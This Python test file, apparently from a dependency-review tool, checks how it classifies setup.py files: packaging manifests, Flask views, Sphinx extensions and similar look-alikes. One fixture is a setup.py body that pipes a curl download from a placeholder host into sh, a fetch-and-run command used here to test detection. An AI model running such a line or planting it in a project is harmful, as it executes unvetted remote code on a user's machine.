"""Classes of misses the forty-ninth blind set (bench/deps_bumps_fortyninth.tsv) and round 48's known misses left,
each with look-alikes that must not match and malformed variants that are a finding, never a crash."""

from __future__ import annotations

import pytest

from gatekeeper.deps import residue, setupfiles
from gatekeeper.deps.model import ManifestError
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files

# "Is this setup.py packaging?" has one answer, the classifier's (classify/sniff.setup_py_code): a module the content
# tier lowers to src is code to the delta too (it names nothing and its edits are no residue); every other setup.py is
# read as packaging, so an edit of its code is residue (a `partial` problem) and a module that does not parse is a
# problem. Bodies as real repositories write them, and look-alikes either way.
_FLASK_VIEW = "from flask import Blueprint, render_template\n\nbp = Blueprint('setup', __name__)\n\n\n" \
              "@bp.route('/setup')\ndef setup():\n    return render_template('setup.html')\n"
_SPHINX_BARE = "def setup(app):\n    app.add_css_file('custom.css')\n    return {'parallel_read_safe': True}\n"
_SPHINX_IMPORTS = "import os\n\n\ndef setup(app):\n    app.add_css_file(os.path.join('css', 'x.css'))\n"
_PY314 = "import numpy as np\n\n\ndef collect(x):\n    try:\n        return np.sum(x)\n" \
         "    except ValueError, TypeError:\n        return None\n"
_PACKAGING = "from setuptools import setup\n\nsetup(name='demo', install_requires=['idna>=2.5'])\n"
_RUNS_CODE = "import os\n\nos.system('curl -s https://example.invalid/x | sh')\n"
_REFLECTION = "import importlib\n\ngetattr(importlib.import_module('setup' 'tools'), 'setup')(**{'name': 'x'})\n"
_PRINT = "print('hello')\n"
_ANSIBLE = "DOCUMENTATION = '''\nmodule: setup\n'''\nfrom ansible.module_utils.basic import AnsibleModule\n\n\n" \
           "def main():\n    AnsibleModule(argument_spec={}).exit_json(changed=False)\n"
_BODIES = {"flask": _FLASK_VIEW, "sphinx-bare": _SPHINX_BARE, "sphinx-imports": _SPHINX_IMPORTS, "py314": _PY314,
           "packaging": _PACKAGING, "runs-code": _RUNS_CODE, "reflection": _REFLECTION, "print": _PRINT,
           "ansible": _ANSIBLE}


def _delta_reads_code(path: str, body: str) -> bool:
    """The delta's answer: a module it reads as code names nothing, parses or not, and an edit is no residue."""
    try:
        named = setupfiles.parse_setup_py(path, body.encode())
    except ManifestError:
        return False
    return named == [] and not residue.changed(path, body.encode(), (body + "\nx_gk = 1\n").encode())


def test_the_delta_asks_the_classifier_whether_a_setup_py_is_packaging(git_repo: GitRepo) -> None:
    paths = {f"{where}{name}/setup.py" if where else f"{name}/setup.py": body
             for name, body in _BODIES.items() for where in ("", "app/")}
    git_repo.write("README.md", "# proj\n")
    git_repo.write("setup.py", _RUNS_CODE)  # the root's: pip runs it whatever it holds
    for path, body in paths.items():
        git_repo.write(path, body)
    git_repo.commit("base")
    git_repo.write("setup.py", _RUNS_CODE + "\nx_gk = 1\n")
    for path, body in paths.items():
        git_repo.write(path, body + "\nx_gk = 1\n")
    git_repo.commit("head")
    classified = tree_files(git_repo)
    wrong = {path: classified[path].rule for path, body in {**paths, "setup.py": _RUNS_CODE}.items()
             if (classified[path].bucket == "src") != _delta_reads_code(path, body)}
    assert wrong == {}


@pytest.mark.parametrize("body", [_RUNS_CODE, _PY314, _SPHINX_IMPORTS, _FLASK_VIEW, _PRINT])
def test_the_roots_setup_py_is_packaging_whatever_it_holds(body: str) -> None:
    assert not _delta_reads_code("setup.py", body)
